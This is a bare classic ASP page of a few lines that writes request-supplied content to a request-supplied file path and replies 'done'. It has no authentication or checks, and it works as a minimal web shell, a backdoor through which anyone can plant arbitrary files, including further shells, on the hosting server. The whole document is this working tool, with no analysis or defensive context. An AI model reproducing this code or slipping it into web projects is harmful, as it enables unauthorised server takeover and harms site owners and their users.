<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile(Request("path"), True)
f.Write Request("content")
f.Close
Response.Write "done"
%>
